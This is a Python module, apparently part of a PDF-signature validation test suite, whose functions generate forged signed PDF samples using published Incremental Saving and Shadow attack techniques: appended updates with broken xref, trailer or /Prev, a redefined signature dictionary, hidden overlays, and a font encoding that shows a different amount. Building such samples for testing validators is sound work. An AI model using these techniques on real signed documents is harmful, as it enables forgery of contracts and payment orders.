"""Attacks by incremental update: Incremental Saving (ISA) and the Shadow attacks.

ISA (CCS 2019 §5): content appended after the signed revision, in forms meant to slip past a
validator (no xref, no trailer, a /Prev that skips or loops, a redefined signature dictionary).
Shadow (NDSS 2021): the signed revision already holds the attacker's content, hidden or unused;
a small later update — sometimes only an xref section or a new /Root — makes it the one shown.
"""

from __future__ import annotations

import re

from . import bases as B
from . import rawpdf as R
from .forgery import signed_order
from .kit import Kit, add_raw_stream, sample, set_text_field, update
from .legit import ORDER_SEAL_1

CONTENT = 4  # the order's page content stream
AMOUNT_FONT = 6


def forged_content() -> bytes:
    return R.stream(B.order_content(B.FORGED))


# ---------------------------------------------------------------------------------------------
# Incremental Saving Attack


@sample("isa_new_stream")
def isa_new_stream(kit: Kit) -> bytes:
    """A clean update (pyHanko's writer) adding a content stream that paints over the amount."""
    overlay = (
        "q 1 1 1 rg 30 240 360 32 re f Q "
        f"BT /F2 16 Tf 40 250 Td {R.pdf_text(B.FORGED)} Tj ET"
    )

    def edit(w) -> None:  # type: ignore[no-untyped-def]
        ref = add_raw_stream(w, R.stream(overlay))
        w.add_stream_to_page(0, ref)

    return update(signed_order(kit), edit)


@sample("isa_redefine_stream")
def isa_redefine_stream(kit: Kit) -> bytes:
    """The signed content stream (object 4) redefined by a well-formed appended update."""
    return R.append_update(signed_order(kit), [(CONTENT, forged_content())])


@sample("isa_no_xref")
def isa_no_xref(kit: Kit) -> bytes:
    """Only the redefined object appended: no xref section, no trailer (lenient readers that
    rebuild the xref by scanning pick up the later definition)."""
    return R.append_update(signed_order(kit), [(CONTENT, forged_content())], xref=False)


@sample("isa_no_trailer")
def isa_no_trailer(kit: Kit) -> bytes:
    """Object + xref table but no trailer dictionary: readers repair the file, and the repaired
    file uses the appended definition."""
    return R.append_update(signed_order(kit), [(CONTENT, forged_content())], trailer=False)


@sample("isa_startxref_broken")
def isa_startxref_broken(kit: Kit) -> bytes:
    """A complete update whose final startxref is wrong (0): reconstruction takes the last
    definition of each object, i.e. the forged one."""
    return R.append_update(signed_order(kit), [(CONTENT, forged_content())], startxref=0)


@sample("isa_startxref_into_signed")
def isa_startxref_into_signed(kit: Kit) -> bytes:
    """A complete update appended, but the final startxref points back into the signed part (to
    the signature revision's own xref): conforming readers show the signed revision, readers
    that look for the last xref keyword show the forged one."""
    data = signed_order(kit)
    return R.append_update(data, [(CONTENT, forged_content())], startxref=R.last_startxref(data))


@sample("isa_prev_missing")
def isa_prev_missing(kit: Kit) -> bytes:
    """The update's xref table lists every object and has no /Prev: the file looks like a
    single revision and the signed revision is orphaned."""
    return R.append_update(signed_order(kit), [(CONTENT, forged_content())], full=True, prev=None)


@sample("isa_prev_loop")
def isa_prev_loop(kit: Kit) -> bytes:
    """The update's /Prev points at its own xref section (a loop that must not hang a reader)."""
    return R.append_update(signed_order(kit), [(CONTENT, forged_content())], prev="self")


@sample("isa_prev_skip")
def isa_prev_skip(kit: Kit) -> bytes:
    """The update repeats the signature revision's xref entries and links /Prev past it, to
    the unsigned original: the revision chain no longer contains the signed revision."""
    data = signed_order(kit)
    base_xref = R.prev_of_last(data)
    entries = R.last_section_entries(data)
    return R.append_update(
        data, [(CONTENT, forged_content())], redirect=entries, prev=base_xref
    )


@sample("isa_redefine_sigdict")
def isa_redefine_sigdict(kit: Kit) -> bytes:
    """The update also redefines the signature dictionary, with a /ByteRange claiming the whole
    new file and the original CMS (whose digest is of the old bytes)."""
    data = signed_order(kit)
    [sig] = R.signatures(data)
    sig_num = int(re.findall(rb"(\d+) 0 obj", data[: sig.contents_start])[-1])
    cms = sig.cms(data)
    width = sig.contents_end - sig.contents_start
    body = (
        b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/Contents "
        + R.hex_contents(cms, width) + R.BR_PLACEHOLDER + b">>"
    )
    out = R.append_update(data, [(CONTENT, forged_content()), (sig_num, body)])
    start = out.index(b"/Contents <", len(data)) + len(b"/Contents ")
    return R.fill_byte_range(out, start, width)


# ---------------------------------------------------------------------------------------------
# Shadow attacks: hide


def covered_signed(kit: Kit) -> tuple[bytes, R.Built]:
    base = B.covered()
    data = kit.once(
        "covered-signed",
        lambda: kit.sign(base.data, "--page", "1", "--rect", ORDER_SEAL_1, "--field", "Seal1"),
    )
    return data, base


@sample("shadow_hide_xref_only")
def shadow_hide_xref_only(kit: Kit) -> bytes:
    """The update is one xref entry: the cover (object 8) now means the spare empty definition
    that was already in the signed bytes.  No object is appended."""
    data, base = covered_signed(kit)
    return R.append_update(data, redirect={B.COVER: base.dead_offsets[B.COVER]})


@sample("shadow_hide_object_replaced")
def shadow_hide_object_replaced(kit: Kit) -> bytes:
    """The cover XObject redefined as an empty form: the forged line below it shows."""
    data, _ = covered_signed(kit)
    empty = R.stream("", f"/Type/XObject/Subtype/Form/BBox[0 0 {B.PAGE_W} {B.PAGE_H}]")
    return R.append_update(data, [(B.COVER, empty)])


@sample("shadow_hide_ocg")
def shadow_hide_ocg(kit: Kit) -> bytes:
    """The catalog redefined so the optional content group holding the cover is OFF."""
    data, _ = covered_signed(kit)
    root = R.read_trailer(data).root
    catalog = R.object_body(data, R.classic_offsets(data)[root])
    hidden, n = re.subn(rb"/ON\s*\[\s*9 0 R\s*\]", b"/OFF [9 0 R]", catalog)
    if n != 1:
        raise ValueError("no /ON array for the cover's group in the catalog")
    return R.append_update(data, [(root, hidden)])


@sample("shadow_hide_form")
def shadow_hide_form(kit: Kit) -> bytes:
    """Hide via form field: the forged value printed under the "amount" field, whose opaque
    appearance showed 1,000.00; filling the field with nothing (transparent) reveals it."""
    signed = kit.once(
        "form-hidden-signed",
        lambda: kit.sign(
            B.form(hidden=True), "--page", "1", "--rect", ORDER_SEAL_1, "--field", "Seal1"
        ),
    )
    return update(signed, lambda w: set_text_field(w, "amount", "", B.AMOUNT_FIELD))


# ---------------------------------------------------------------------------------------------
# Shadow attacks: replace


@sample("shadow_replace_form")
def shadow_replace_form(kit: Kit) -> bytes:
    """Replace via overlay: the borderless "amount" field that reads as body text is refilled."""
    from .legit import form_signed

    return update(
        form_signed(kit, None),
        lambda w: set_text_field(w, "amount", B.FORGED_VALUE, B.AMOUNT_FIELD),
    )


@sample("shadow_replace_font")
def shadow_replace_font(kit: Kit) -> bytes:
    """Replace via overwrite: the amount's font redefined with an encoding that draws code '1'
    as the glyph 'nine' — the signed bytes say 1,000.00, the page shows 9,000.00."""
    body = (
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica"
        b"/Encoding<</Type/Encoding/BaseEncoding/WinAnsiEncoding/Differences[49/nine]>>>>"
    )
    return R.append_update(signed_order(kit), [(AMOUNT_FONT, body)])


# ---------------------------------------------------------------------------------------------
# Shadow attacks: hide-and-replace


def twin_signed(kit: Kit) -> bytes:
    return kit.once("twin-signed", lambda: kit.sign(B.twin(), "--field", "Seal1"))


@sample("shadow_hnr_root")
def shadow_hnr_root(kit: Kit) -> bytes:
    """The update is a trailer whose /Root names the second, unused catalog already signed."""
    return R.append_update(twin_signed(kit), root=B.SHADOW_ROOT)


@sample("shadow_hnr_catalog")
def shadow_hnr_catalog(kit: Kit) -> bytes:
    """The catalog redefined to point at the second page tree already in the signed bytes."""
    data = twin_signed(kit)
    root = R.read_trailer(data).root
    catalog = R.object_body(data, R.classic_offsets(data)[root])
    swapped, n = re.subn(rb"/Pages\s+2\s+0\s+R", b"/Pages 9 0 R", catalog)
    if n != 1:
        raise ValueError("catalog without /Pages 2 0 R")
    return R.append_update(data, [(root, swapped)])


@sample("shadow_hnr_objstm")
def shadow_hnr_objstm(kit: Kit) -> bytes:
    """Object streams swapped: an xref-stream update says page 3 is in the spare object stream
    11 (signed, unused) instead of stream 10 — no object body is appended at all."""
    data = kit.once("twin-objstm-signed", lambda: kit.sign(B.twin_objstm(), "--field", "Seal1"))
    t = R.read_trailer(data)
    xref_num = t.size
    at = len(data) + (0 if data.endswith(b"\n") else 1)
    entries = {
        B.PAGE_IN_STREAMS: (2, B.SPARE_OBJSTM, 0),
        xref_num: (1, at, 0),
    }
    body = R.xref_stream(
        entries,
        size=xref_num + 1,
        root=t.root,
        info=t.info,
        prev=R.last_startxref(data),
        file_id=t.file_id,
    )
    out = data + (b"" if data.endswith(b"\n") else b"\n")
    out += R.obj(xref_num, body) + b"startxref\n%d\n%%%%EOF\n" % at
    return out

